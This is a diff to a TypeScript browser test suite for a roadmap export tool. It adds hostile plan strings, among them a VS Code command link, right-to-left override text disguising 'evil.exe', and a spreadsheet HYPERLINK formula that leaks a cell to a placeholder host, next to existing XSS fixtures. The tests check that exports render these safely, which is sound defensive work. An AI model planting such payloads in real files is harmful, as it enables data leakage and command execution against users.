@@ -32,6 +32,9 @@ const hostile = {
   benefit: '<object data="x"></object>',
   manager: '<b onmouseover="window.__pwned=1">bob</b>',
   tag: '%%{init: {"securityLevel": "loose"}}%%',
+  // A VS Code command link (Markdown and HTML), right-to-left override text, and a spreadsheet formula.
+  projectD: '[run](command:workbench.action.terminal.new) <a href="command:workbench.action.terminal.new">run</a> \u202Eevil.exe\u202C',
+  projectE: '=HYPERLINK("https://example.invalid/?leak="&A1,"open")',
 };
 
 const q = (text: string) => JSON.stringify(text);
@@ -84,9 +87,18 @@ const hostilePlan = [
   '          depends_on: [a1]',
   '          duration: 3w',
   '          state: cancelled',
+  '        - id: a4',
+  `          name: ${q(hostile.projectD)}`,
+  '          start: 2026-02-02',
+  '          duration: 2w',
+  '        - id: a5',
+  `          name: ${q(hostile.projectE)}`,
+  '          start: 2026-02-09',
+  '          duration: 2w',
   '',
 ].join('\n');
-const projectNames = [hostile.projectA, hostile.projectB, hostile.projectC];
+const projectNames = [hostile.projectA, hostile.projectB, hostile.projectC, hostile.projectD, hostile.projectE];
+const projectIds = ['a1', 'a2', 'a3', 'a4', 'a5'];
 
 function render(args: string[], cwd = repo): void {
   const result = spawnSync(process.execPath, [cli, 'render', ...args], { cwd, encoding: 'utf8', timeout: 120_000 });
@@ -159,15 +171,15 @@ describe('roadmap export in a browser', function () {
     });
 
     it('draws every project bar as an element with data-id', async () => {
-      for (const id of ['a1', 'a2', 'a3']) assert.equal(await count(page, `.chart [data-id="${id}"]`), 1, id);
-      assert.equal(await count(page, '[data-id]'), 3);
+      for (const id of projectIds) assert.equal(await count(page, `.chart [data-id="${id}"]`), 1, id);
+      assert.equal(await count(page, '[data-id]'), projectIds.length);
     });
 
     it('shows every plan string as text', async () => {
       assert.equal(await page.locator('h1.title').textContent(), hostile.portfolio);
       const table = (await page.locator('table.rollup').textContent()) ?? '';
       for (const name of [hostile.portfolio, hostile.program, ...projectNames]) assert.ok(table.includes(name), `table shows ${name}`);
-      for (const [id, name] of [['a1', hostile.projectA], ['a2', hostile.projectB], ['a3', hostile.projectC]]) {
+      for (const [id, name] of projectIds.map((id, i) => [id, projectNames[i]])) {
         assert.ok((await page.locator(`[data-id="${id}"]`).getAttribute('aria-label'))?.startsWith(`${name} (${id})`), id);
       }
       await page.locator('[data-id="a1"] .body').hover();
@@ -182,6 +194,7 @@ describe('roadmap export in a browser', function () {
       assert.equal(await page.evaluate('window.__pwned'), undefined);
       assert.deepEqual(await page.evaluate('window.__violations'), []);
       assert.equal(await count(page, 'img, iframe, object, embed, a[href], style:not(head > style)'), 0);
+      assert.equal(await count(page, '[href*="command:"], [src*="command:"]'), 0, 'no command link');
       assert.equal(await count(page, 'script'), 2, 'the data block and the bundle only');
       assert.equal(await count(page, 'script:not([type])'), 1);
     });
@@ -282,7 +295,7 @@ describe('roadmap export in a browser', function () {
     it('shows every bar and every plan string as text, runs and requests nothing', async () => {
       render(['hostile', '--format', 'svg', '--out', 'roadmap.svg'], work);
       const { page, requests, dialogs } = await openOffline(browser, path.join(work, 'roadmap.svg'));
-      for (const id of ['a1', 'a2', 'a3']) assert.equal(await count(page, `[data-id="${id}"]`), 1, id);
+      for (const id of projectIds) assert.equal(await count(page, `[data-id="${id}"]`), 1, id);
       const text = (await page.locator('svg').first().textContent()) ?? '';
       for (const name of [hostile.portfolio, hostile.milestone]) assert.ok(text.includes(name), name);
       for (const name of projectNames) assert.ok(text.includes(name.slice(0, 20)), name);
